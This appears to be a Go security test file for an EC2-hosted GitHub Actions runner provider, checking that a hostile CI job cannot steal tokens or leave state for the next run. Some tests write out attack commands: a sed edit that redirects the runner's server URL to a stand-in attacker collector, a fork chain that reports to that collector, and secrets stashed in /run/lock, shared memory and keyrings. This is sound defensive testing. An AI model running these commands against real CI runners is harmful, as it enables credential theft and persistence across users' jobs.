package agentscript_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/ec2runners/terraform-provider-ec2runners/internal/protocol"
	"github.com/ec2runners/terraform-provider-ec2runners/internal/testworld/await"
	"github.com/ec2runners/terraform-provider-ec2runners/internal/testworld/scripttest"
)

// What a hostile job tried beyond the attempts of hostileJob, one test per
// way it could once reach a token or the next run.

// jobTool is the path of the stand-in's hostile-job tool in the instance.
func jobTool(inst *scripttest.Instance) string { return inst.Root + "/" + scripttest.JobToolPath }

// A job rewrites its runner's .runner to send the removal to a server of
// its choice. Nothing the runner user writes decides where a token goes:
// the agent removes the runner with its own copy of the registration,
// GitHub removes it, and the job's server gets nothing.
func TestInstance_removalGoesWhereTheRunnerRegistered(t *testing.T) {
	evil := scripttest.NewCollector(t)
	f, _ := startServing(t, "run-1", evil.URL)
	job := runJob(t, f, "run-1", fmt.Sprintf(`sed -i -e 's#"gitHubUrl": "[^"]*"#"gitHubUrl": "%[1]s/octo/app"#' -e 's#"serverUrl": "[^"]*"#"serverUrl": "%[1]s"#' "$HOME/runner/.runner"
cat "$HOME/runner/.runner"`, evil.URL))
	if job.ExitCode != 0 || !strings.Contains(job.Output, evil.URL) {
		t.Fatalf("the job could not rewrite its .runner (exit code %d):\n%s", job.ExitCode, job.Output)
	}
	release(t, f, "run-1")
	if r, registered := f.env.GitHub.Runners()[f.instanceID]; registered {
		t.Errorf("GitHub still has the runner after its release: %+v (the removal went elsewhere)", r)
	}
	if got := evil.Requests(); len(got) > 0 {
		t.Errorf("the job's server got %d requests, first %q; want none", len(got), got[0])
	}
}

// A chain of processes that each start the next before doing anything
// (faster than a kill loop by user id ends them) ends with the run: none is
// left once the release is confirmed, and none ever read a token from the
// environment of config.sh, which runs as root and never as the runner
// user.
func TestInstance_forkChainEndsWithTheRun(t *testing.T) {
	evil := scripttest.NewCollector(t)
	f, inst := startServing(t, "run-1", evil.URL)
	job := runJob(t, f, "run-1", jobTool(inst)+" chain "+evil.URL+"/chain && sleep 1")
	if job.ExitCode != 0 {
		t.Fatalf("the job could not start its chain (exit code %d):\n%s", job.ExitCode, job.Output)
	}
	await.True(t, "the chain reporting", func() error {
		if n := len(evil.Requests()); n < 3 {
			return fmt.Errorf("%d reports", n)
		}
		return nil
	})
	release(t, f, "run-1")
	if out, err := inst.Command("ps", "-u", inst.RunnerUser, "-o", "pid=,args=").CombinedOutput(); strings.TrimSpace(string(out)) != "" {
		t.Errorf("processes of the runner user outlived the release (%v):\n%s", err, out)
	}
	after := len(evil.Requests())
	claimAgain(t, f, "run-2")
	release(t, f, "run-2")
	if n := len(evil.Requests()); n > after {
		t.Errorf("the chain reported %d times more after the release: it outlived it", n-after)
	}
	for _, tok := range f.env.GitHub.IssuedTokens() {
		if evil.Holds(tok) {
			t.Errorf("the chain read a token (%.8s...)", tok)
		}
	}
}

// What a job leaves where a wipe of its user's files and processes does not
// look: a world-writable directory of the image (/run/lock), System V
// shared memory it handed to root (IPC_SET), a POSIX message queue, a key
// in its user's keyring. The next run on the instance finds none of them.
func TestInstance_nextRunFindsNothingOfTheLast(t *testing.T) {
	f, inst := startServing(t, "run-1")
	first := runJob(t, f, "run-1", jobTool(inst)+" leave secret-of-run-1 && echo secret-of-run-1 >/run/lock/left-by-run-1")
	if first.ExitCode != 0 || strings.Count(first.Output, "left ") != 3 {
		t.Fatalf("the first job could not leave what it leaves (exit code %d):\n%s", first.ExitCode, first.Output)
	}
	release(t, f, "run-1")
	claimAgain(t, f, "run-2")
	second := runJob(t, f, "run-2", jobTool(inst)+" find; cat /run/lock/left-by-run-1 2>/dev/null && echo 'LEFT run/lock'; true")
	for _, left := range []struct{ name, line string }{
		{"runLock", "LEFT run/lock"},
		{"sharedMemoryHandedToRoot", "LEFT shared memory"},
		{"messageQueue", "LEFT message queue"},
		{"keyring", "LEFT key"},
	} {
		t.Run(left.name, func(t *testing.T) {
			if strings.Contains(second.Output, left.line) {
				t.Errorf("the next run found what the last left:\n%s", second.Output)
			}
		})
	}
	if second.ExitCode != 0 {
		t.Errorf("the second job failed (exit code %d):\n%s", second.ExitCode, second.Output)
	}
}

// An instance whose record is not written yet (a claim writes it right
// after CreateFleet) waits for it up to the orphan timeout: it does not end
// itself at its first check.
func TestInstance_waitsForItsRecordUntilTheOrphanTimeout(t *testing.T) {
	f := newFixture(t, repo, nil)
	o := f.options()
	const orphanTimeout = 20 * time.Second
	o.Intervals.OrphanTimeout = protocol.Duration(orphanTimeout)
	inst := f.start(o, nil)
	f.awaitServing()
	started := time.Now()
	// Several self-checks (one a second) pass meanwhile.
	await.Until(t, "five self-checks", func() bool { return time.Since(started) > 5*time.Second })
	if n := f.env.Proxy.Verified()["ec2 TerminateInstances"]; n != 0 || !inst.Running() {
		t.Fatalf("the instance ended itself %s after it was ready, before its orphan timeout of %s:\n%s", time.Since(started), orphanTimeout, inst.Output())
	}
	await.Done(t, "the instance ending itself after its orphan timeout", inst.Done())
	if !strings.Contains(inst.Output(), "no instance record 20s after boot") {
		t.Errorf("the agent's log does not say why it ended:\n%s", inst.Output())
	}
}

// The runner installation on another file system than the runner user's
// home (/opt and /home apart): every run gets its copy all the same.
func TestInstance_runnerOnAnotherFileSystem(t *testing.T) {
	f := newFixture(t, repo, nil)
	f.image.RunnerDir = "/dev/shm/ec2runners/runner" // the instance's own tmpfs; homes are on the disk
	f.putRecord(protocol.StateIdle, "", time.Now().Add(10*time.Minute))
	f.start(f.options(), nil)
	f.awaitServing()
	for _, runID := range []string{"run-1", "run-2"} {
		claimAgain(t, f, runID)
		checkJob(t, f, runID)
		release(t, f, runID)
	}
}
